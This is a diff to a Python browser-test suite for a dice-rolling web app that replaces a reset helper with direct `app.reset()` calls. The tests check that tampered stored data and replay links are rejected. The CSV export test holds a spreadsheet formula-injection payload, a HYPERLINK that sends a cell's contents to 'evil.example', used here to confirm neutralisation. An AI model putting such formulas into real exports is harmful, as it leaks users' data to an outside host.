@@ -30,12 +30,6 @@ def app(new_app: Any, site: str) -> Iterator[App]:
     app.context.close()
 
 
-def reset(app: App) -> None:
-    """Each test starts from a first visit: App.reset (both storages and every IndexedDB
-    store emptied, whatever the database holds, then the app opened again without a link)."""
-    app.reset()
-
-
 def store(app: App, values: dict[str, Any]) -> None:
     app.page.evaluate(
         """(values) => Object.entries(values).forEach(
@@ -69,7 +63,7 @@ def link_of(payload: Any) -> str:
 
 
 def test_systems_cache_with_string_choices_still_starts(app: App) -> None:
-    reset(app)
+    app.reset()
     description = local_handle({"op": "systems"})["result"]
     for field in description["systems"][0]["fields"]:
         if "choices" in field:
@@ -83,7 +77,7 @@ def test_systems_cache_with_string_choices_still_starts(app: App) -> None:
 
 
 def test_history_entry_with_a_trap_param_is_set_aside(app: App) -> None:
-    reset(app)
+    app.reset()
     bad = entry(
         "h-trap", "2026-01-02T10:00:00.000Z", params={**GOOD_ENTRY["params"], "value": TRAP}
     )
@@ -101,7 +95,7 @@ def test_history_entry_with_a_trap_param_is_set_aside(app: App) -> None:
 
 def test_history_entry_that_does_not_fit_its_system_is_set_aside(app: App) -> None:
     """Deep check against the engine's description: a key the system has not."""
-    reset(app)
+    app.reset()
     odd = entry("h-odd", "2026-01-02T10:00:00.000Z", params={**GOOD_ENTRY["params"], "pot": 3})
     store(app, {"pyrules:history": [odd, entry("h-good", "2026-01-01T10:00:00.000Z")]})
     app.reload()
@@ -112,7 +106,7 @@ def test_history_entry_that_does_not_fit_its_system_is_set_aside(app: App) -> No
 
 
 def test_indexeddb_character_with_a_trap_param_leaves_the_screen_usable(app: App) -> None:
-    reset(app)
+    app.reset()
     bad = {
         **GOOD,
         "id": "c-trap",
@@ -165,7 +159,7 @@ def test_last_resort_safe_start(new_app: Any, site: str) -> None:
 
 
 def test_two_tabs_rolling_at_once_lose_nothing_and_see_each_other(app: App) -> None:
-    reset(app)
+    app.reset()
     other = App(app.context, app.base_url)
     other.open()
     try:
@@ -213,7 +207,7 @@ def test_two_tabs_rolling_at_once_lose_nothing_and_see_each_other(app: App) -> N
 
 
 def test_history_keeps_every_roll_and_pages_the_list(app: App) -> None:
-    reset(app)
+    app.reset()
     many = [
         entry(f"h-{i:04d}", f"2026-01-01T{10 + i // 3600:02d}:{i // 60 % 60:02d}:{i % 60:02d}.000Z")
         for i in range(600)
@@ -267,7 +261,7 @@ def test_character_with_id_proto_is_kept_without_indexeddb(
 
 
 def test_csv_export_neutralises_formulas(app: App) -> None:
-    reset(app)
+    app.reset()
     formula = '=HYPERLINK("http://evil.example/?"&A1;"ok")'
     store(
         app,
@@ -300,7 +294,7 @@ def test_csv_export_neutralises_formulas(app: App) -> None:
 
 
 def test_stored_character_cannot_load_the_dice(app: App) -> None:
-    reset(app)
+    app.reset()
     loaded = {
         **GOOD,
         "id": "c-loaded",
@@ -351,7 +345,7 @@ def test_stored_character_cannot_load_the_dice(app: App) -> None:
 
 
 def test_imported_character_with_faces_is_refused(app: App, tmp_path: Path) -> None:
-    reset(app)
+    app.reset()
     app.page.click("#tab-characters")
     bad = {
         **GOOD,
@@ -369,7 +363,7 @@ def test_imported_character_with_faces_is_refused(app: App, tmp_path: Path) -> N
 
 
 def test_luck_counts_seeded_rolls_only(app: App) -> None:
-    reset(app)
+    app.reset()
     physical = entry("h-phys", "2026-01-01T10:00:01.000Z", seed=None, physical=True, luck=1.0)
     store(
         app,
@@ -401,7 +395,7 @@ def test_luck_counts_seeded_rolls_only(app: App) -> None:
     ids=["trap", "deep", "faces-with-seed", "cut-short", "not-base64"],
 )
 def test_bad_replay_links_change_nothing(app: App, payload: Any) -> None:
-    reset(app)
+    app.reset()
     roll_works(app)
     state = local(app)["pyrules:state"]
     history = history_ids(app)
@@ -415,7 +409,7 @@ def test_bad_replay_links_change_nothing(app: App, payload: Any) -> None:
 
 
 def test_replay_link_the_engine_refuses_restores_the_form(app: App) -> None:
-    reset(app)
+    app.reset()
     app.pick_system("d100")
     roll_works(app)
     before = local(app)["pyrules:state"]
